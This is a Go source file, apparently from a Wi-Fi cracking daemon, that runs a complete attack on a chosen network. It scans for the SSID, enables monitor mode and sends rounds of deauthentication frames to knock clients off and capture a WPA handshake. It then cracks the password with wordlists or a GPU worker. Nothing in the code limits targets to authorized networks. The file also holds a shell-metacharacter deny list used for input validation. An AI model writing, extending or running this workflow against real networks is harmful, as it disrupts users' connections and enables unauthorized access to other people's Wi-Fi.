// Package engine runs the multi-phase attack workflow against a single
// target: scan, handshake capture with deauth rounds, then GPU hand-off or
// local dictionary cracking.
package engine

import (
	"context"
	"errors"
	"fmt"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"github.com/wavecrack/wavecrackd/coordstate"
	"github.com/wavecrack/wavecrackd/lib/attackstate"
	"github.com/wavecrack/wavecrackd/lib/capture"
	"github.com/wavecrack/wavecrackd/lib/history"
	"github.com/wavecrack/wavecrackd/lib/wifi"
	"github.com/wavecrack/wavecrackd/lib/wordlist"
)

// ErrInvalidTarget is returned when the requested SSID fails validation.
var ErrInvalidTarget = errors.New("invalid target ssid")

// forbiddenSSIDChars would be dangerous if an SSID ever reached a shell, and
// are rejected outright even though tools are invoked with argument vectors.
const forbiddenSSIDChars = ";&|`$()"

const maxSSIDLength = 32

const (
	defaultAttackTimeout     = 10 * time.Minute
	defaultDeauthRounds      = 3
	defaultDeauthCount       = 10
	defaultDeauthSettle      = 15 * time.Second
	defaultMonitorRetryDelay = 2 * time.Second
	restoreTimeout           = 30 * time.Second
)

// Config carries the tunables for attack runs.
type Config struct {
	ScanIface         string
	MonIface          string
	WordlistDir       string
	AttackTimeout     time.Duration
	DeauthRounds      int
	DeauthCount       int
	DeauthSettle      time.Duration
	MonitorRetryDelay time.Duration
	GPUEnabled        bool
	GPUStagingDir     string
}

func (c *Config) applyDefaults() {
	if c.AttackTimeout <= 0 {
		c.AttackTimeout = defaultAttackTimeout
	}

	if c.DeauthRounds <= 0 {
		c.DeauthRounds = defaultDeauthRounds
	}

	if c.DeauthCount <= 0 {
		c.DeauthCount = defaultDeauthCount
	}

	if c.DeauthSettle <= 0 {
		c.DeauthSettle = defaultDeauthSettle
	}

	if c.MonitorRetryDelay <= 0 {
		c.MonitorRetryDelay = defaultMonitorRetryDelay
	}
}

type gpuResult struct {
	password string
	found    bool
}

// Engine drives at most one attack at a time. Start claims the shared state
// record atomically, so concurrent start requests race on the store lock and
// exactly one wins.
type Engine struct {
	adapter  wifi.Adapter
	state    *attackstate.Store
	captures *capture.Store
	hist     *history.Store
	notifier *Notifier
	cfg      Config

	mu     sync.Mutex
	cancel context.CancelFunc

	// gpuResults is replaced with a fresh channel for every attack, so a
	// worker report that arrives after its attack finished can never be
	// consumed by a later run.
	gpuResults chan gpuResult
}

// New wires an engine. hist and notifier may be nil.
func New(adapter wifi.Adapter, state *attackstate.Store, captures *capture.Store,
	hist *history.Store, notifier *Notifier, cfg Config,
) *Engine {
	cfg.applyDefaults()

	return &Engine{
		adapter:  adapter,
		state:    state,
		captures: captures,
		hist:     hist,
		notifier: notifier,
		cfg:      cfg,
	}
}

// ValidateSSID rejects SSIDs that are empty, too long, or carry shell
// metacharacters or control characters.
func ValidateSSID(ssid string) error {
	if ssid == "" || len(ssid) > maxSSIDLength {
		return fmt.Errorf("%w: length must be 1-%d bytes", ErrInvalidTarget, maxSSIDLength)
	}

	if strings.ContainsAny(ssid, forbiddenSSIDChars) {
		return fmt.Errorf("%w: contains forbidden characters", ErrInvalidTarget)
	}

	for _, r := range ssid {
		if r < 0x20 || r == 0x7f {
			return fmt.Errorf("%w: contains control characters", ErrInvalidTarget)
		}
	}

	return nil
}

// Start validates the target and launches the attack workflow in the
// background. It returns ErrInvalidTarget for bad SSIDs and
// attackstate.ErrAlreadyRunning when an attack is in progress.
func (e *Engine) Start(ssid string) error {
	if err := ValidateSSID(ssid); err != nil {
		return err
	}

	e.mu.Lock()
	defer e.mu.Unlock()

	if err := e.state.TryBegin(ssid); err != nil {
		return err
	}

	ctx, cancel := context.WithTimeout(context.Background(), e.cfg.AttackTimeout)
	e.cancel = cancel
	e.gpuResults = make(chan gpuResult, 1)

	coordstate.Logger.Info("Attack started", "target", ssid)

	go e.run(ctx, cancel, ssid, e.gpuResults)

	return nil
}

// Cancel requests cancellation of the running attack. It reports whether
// there was an attack to cancel.
func (e *Engine) Cancel() bool {
	if !e.state.RequestCancel() {
		return false
	}

	e.mu.Lock()
	if e.cancel != nil {
		e.cancel()
	}
	e.mu.Unlock()

	coordstate.Logger.Info("Attack cancellation requested")

	return true
}

// Scan performs an on-demand network scan outside of any attack run.
func (e *Engine) Scan(ctx context.Context) ([]wifi.Network, error) {
	if err := e.adapter.EnableManagedMode(ctx, e.cfg.ScanIface); err != nil {
		coordstate.Logger.Debug("Managed mode restore before scan failed", "error", err)
	}

	return e.adapter.ScanNetworks(ctx, e.cfg.ScanIface)
}

// IngestResult delivers a GPU worker's crack outcome to the waiting attack.
// It reports whether the result was applied; results arriving when no attack
// is waiting on the GPU are logged and dropped. The send targets the current
// attack's own channel, so a report that loses the race with cancellation or
// timeout is abandoned with that attack rather than leaking into the next.
func (e *Engine) IngestResult(filename, password string, found bool) bool {
	e.mu.Lock()
	results := e.gpuResults
	e.mu.Unlock()

	snap := e.state.Snapshot()
	if results == nil || !snap.Running || snap.Phase != attackstate.PhaseGPUCracking {
		coordstate.Logger.Info("Ignoring GPU result with no attack waiting",
			"file", filename, "found", found)

		return false
	}

	select {
	case results <- gpuResult{password: password, found: found}:
		return true
	default:
		return false
	}
}

// GPUStatus records progress reported by the GPU worker. It reports whether
// an attack was in the GPU phase to receive it.
func (e *Engine) GPUStatus(progress int, currentWordlist string) bool {
	snap := e.state.Snapshot()
	if !snap.Running || snap.Phase != attackstate.PhaseGPUCracking {
		return false
	}

	e.state.Update(func(a *attackstate.Attack) {
		a.SubProgress = progress
		a.CurrentWordlist = currentWordlist
		a.GPUProcessing = true
	})

	return true
}

func (e *Engine) run(ctx context.Context, cancel context.CancelFunc, ssid string, results <-chan gpuResult) {
	defer cancel()
	defer e.finalize()

	var sess wifi.CaptureSession

	defer func() {
		if sess != nil {
			_ = sess.Stop()
		}
	}()

	// Scanning.
	e.state.Update(func(a *attackstate.Attack) {
		a.Step = "scanning for target"
		a.Progress = 5
	})

	if err := e.adapter.EnableManagedMode(ctx, e.cfg.ScanIface); err != nil {
		coordstate.Logger.Debug("Managed mode before scan failed", "error", err)
	}

	nets, err := e.adapter.ScanNetworks(ctx, e.cfg.ScanIface)
	if err != nil {
		e.fail("scan failed", true)

		return
	}

	target, found := findTarget(nets, ssid)

	e.state.Update(func(a *attackstate.Attack) {
		a.NetworksFound = len(nets)
	})

	if !found {
		e.fail("target not found", true)

		return
	}

	e.state.Update(func(a *attackstate.Attack) {
		a.TargetBSSID = target.BSSID
		a.TargetChannel = target.Channel
		a.Step = "target located"
		a.Progress = 20
	})

	if e.cancelled(ctx) {
		e.fail("cancelled", false)

		return
	}

	// Capture.
	e.state.Update(func(a *attackstate.Attack) {
		a.Phase = attackstate.PhaseCapture
		a.Step = "enabling monitor mode"
	})

	if err := e.enableMonitor(ctx); err != nil {
		e.fail("monitor mode failed", true)

		return
	}

	if target.Channel > 0 {
		if err := e.adapter.SetChannel(ctx, e.cfg.MonIface, target.Channel); err != nil {
			coordstate.Logger.Debug("Channel set failed", "channel", target.Channel, "error", err)
		}
	}

	sess, err = e.adapter.StartCapture(ctx, e.cfg.MonIface, target.BSSID, target.Channel)
	if err != nil {
		e.fail("capture failed to start", true)

		return
	}

	captured := e.deauthRounds(ctx, sess, target.BSSID)
	capFile := sess.File()
	_ = sess.Stop()
	sess = nil

	if e.cancelled(ctx) {
		e.fail("cancelled", false)

		return
	}

	if !captured {
		// Keep the capture phase visible so the failure reads as a
		// handshake problem, not an internal error.
		e.fail("no handshake captured", false)

		return
	}

	e.state.Update(func(a *attackstate.Attack) {
		a.HandshakeCaptured = true
		a.Progress = 60
	})

	if e.cfg.GPUEnabled {
		e.gpuCrack(ctx, capFile, ssid, results)

		return
	}

	e.localCrack(ctx, capFile, target.BSSID)
}

func (e *Engine) enableMonitor(ctx context.Context) error {
	err := e.adapter.EnableMonitorMode(ctx, e.cfg.MonIface)
	if err == nil {
		return nil
	}

	coordstate.Logger.Warn("Monitor mode failed, retrying", "error", err)

	if !sleepCtx(ctx, e.cfg.MonitorRetryDelay) {
		return ctx.Err()
	}

	return e.adapter.EnableMonitorMode(ctx, e.cfg.MonIface)
}

// deauthRounds runs the deauth/check loop and reports whether a handshake was
// captured. It returns early on cancellation.
func (e *Engine) deauthRounds(ctx context.Context, sess wifi.CaptureSession, bssid string) bool {
	rounds := e.cfg.DeauthRounds

	for round := 1; round <= rounds; round++ {
		if e.cancelled(ctx) {
			return false
		}

		e.state.Update(func(a *attackstate.Attack) {
			a.Step = fmt.Sprintf("deauth round %d/%d", round, rounds)
			a.SubProgress = round * 100 / rounds
			a.Progress = 20 + round*40/rounds
		})

		if err := e.adapter.SendDeauth(ctx, e.cfg.MonIface, bssid, e.cfg.DeauthCount); err != nil {
			coordstate.Logger.Warn("Deauth burst failed", "round", round, "error", err)
		}

		if !sleepCtx(ctx, e.cfg.DeauthSettle) {
			return false
		}

		got, err := e.adapter.CheckHandshake(ctx, sess.File(), bssid)
		if err != nil {
			coordstate.Logger.Debug("Handshake check failed", "round", round, "error", err)

			continue
		}

		if got {
			coordstate.Logger.Info("Handshake captured", "round", round)

			return true
		}
	}

	return false
}

func (e *Engine) gpuCrack(ctx context.Context, capFile, ssid string, results <-chan gpuResult) {
	e.state.Update(func(a *attackstate.Attack) {
		a.Phase = attackstate.PhaseTransfer
		a.Step = "transferring capture"
		a.Progress = 60
	})

	staged, err := e.captures.Stage(filepath.Base(capFile), e.cfg.GPUStagingDir)
	if err != nil {
		coordstate.ErrorLogger.Error("Capture staging failed", "error", err)
		e.fail("capture transfer failed", true)

		return
	}

	if e.notifier != nil {
		if err := e.notifier.CaptureReady(ctx, filepath.Base(staged), ssid); err != nil {
			// The worker also polls the staging directory, so a failed
			// push only delays pickup.
			coordstate.Logger.Warn("GPU worker notification failed", "error", err)
		}
	}

	e.state.Update(func(a *attackstate.Attack) {
		a.Phase = attackstate.PhaseGPUReady
		a.Step = "waiting for GPU worker"
		a.Progress = 65
		a.GPUProcessing = true
	})

	e.state.Update(func(a *attackstate.Attack) {
		a.Phase = attackstate.PhaseGPUCracking
		a.Step = "GPU cracking"
		a.Progress = 70
	})

	select {
	case res := <-results:
		if res.found {
			e.complete(res.password)

			return
		}

		e.fail("password not in GPU wordlists", false)
	case <-ctx.Done():
		if e.state.CancelRequested() {
			e.fail("cancelled", false)

			return
		}

		e.fail("GPU processing timeout", false)
	}
}

func (e *Engine) localCrack(ctx context.Context, capFile, bssid string) {
	e.state.Update(func(a *attackstate.Attack) {
		a.Phase = attackstate.PhaseCracking
		a.Step = "cracking locally"
		a.Progress = 70
	})

	lists, err := wordlist.Discover(e.cfg.WordlistDir)
	if err == nil && len(lists) == 0 {
		err = wordlist.ErrNoWordlists
	}

	if err != nil {
		coordstate.ErrorLogger.Error("Wordlist discovery failed", "error", err)
		e.fail("no wordlists available", true)

		return
	}

	for i, wl := range lists {
		if e.cancelled(ctx) {
			e.fail("cancelled", false)

			return
		}

		e.state.Update(func(a *attackstate.Attack) {
			a.CurrentWordlist = wl.Name
			a.Step = "trying " + wl.Name
			a.Progress = 70 + i*25/len(lists)
		})

		key, crackErr := e.adapter.CrackLocal(ctx, capFile, wl.Path, bssid)
		if crackErr != nil {
			if ctx.Err() != nil {
				if e.state.CancelRequested() {
					e.fail("cancelled", false)
				} else {
					e.fail("attack timed out", false)
				}

				return
			}

			coordstate.Logger.Warn("Wordlist attempt failed", "wordlist", wl.Name, "error", crackErr)

			continue
		}

		if key != "" {
			e.complete(key)

			return
		}
	}

	e.complete(attackstate.ResultNotFound)
}

// complete finishes the attack successfully in one atomic transition. The
// result may be ResultNotFound when every wordlist was exhausted.
func (e *Engine) complete(result string) {
	e.state.Update(func(a *attackstate.Attack) {
		a.Running = false
		a.Completed = true
		a.Failed = false
		a.Result = result
		a.Phase = attackstate.PhaseComplete
		a.Step = "complete"
		a.Progress = 100
		a.SubProgress = 100
		a.GPUProcessing = false
		a.EndTime = time.Now().Unix()
	})

	coordstate.Logger.Info("Attack complete", "result_found", result != attackstate.ResultNotFound)
}

// fail marks the attack failed. errorPhase selects whether the phase jumps to
// error or stays where the attack stalled.
func (e *Engine) fail(step string, errorPhase bool) {
	e.state.Update(func(a *attackstate.Attack) {
		a.Running = false
		a.Failed = true
		a.Step = step
		a.GPUProcessing = false
		a.EndTime = time.Now().Unix()

		if errorPhase {
			a.Phase = attackstate.PhaseError
		}
	})

	coordstate.ErrorLogger.Error("Attack failed", "step", step)
}

// finalize restores the interfaces and records the run, after the attack
// context is already done.
func (e *Engine) finalize() {
	ctx, cancel := context.WithTimeout(context.Background(), restoreTimeout)
	defer cancel()

	if err := e.adapter.EnableManagedMode(ctx, e.cfg.MonIface); err != nil {
		coordstate.Logger.Warn("Managed mode restore failed", "interface", e.cfg.MonIface, "error", err)
	}

	if e.hist == nil {
		return
	}

	snap := e.state.Snapshot()
	entry := history.Entry{
		SSID:       snap.TargetSSID,
		BSSID:      snap.TargetBSSID,
		Result:     snap.Result,
		Success:    snap.Completed && snap.Result != attackstate.ResultNotFound,
		StartedAt:  snap.StartTime,
		FinishedAt: snap.EndTime,
	}

	if err := e.hist.Record(entry); err != nil {
		coordstate.Logger.Warn("History record failed", "error", err)
	}
}

func (e *Engine) cancelled(ctx context.Context) bool {
	return e.state.CancelRequested() || ctx.Err() != nil
}

// findTarget prefers an exact SSID match and falls back to a case-insensitive
// one.
func findTarget(nets []wifi.Network, ssid string) (wifi.Network, bool) {
	for _, n := range nets {
		if n.SSID == ssid {
			return n, true
		}
	}

	for _, n := range nets {
		if strings.EqualFold(n.SSID, ssid) {
			return n, true
		}
	}

	return wifi.Network{}, false
}

// sleepCtx sleeps for d and reports false if ctx ended first.
func sleepCtx(ctx context.Context, d time.Duration) bool {
	timer := time.NewTimer(d)
	defer timer.Stop()

	select {
	case <-ctx.Done():
		return false
	case <-timer.C:
		return true
	}
}
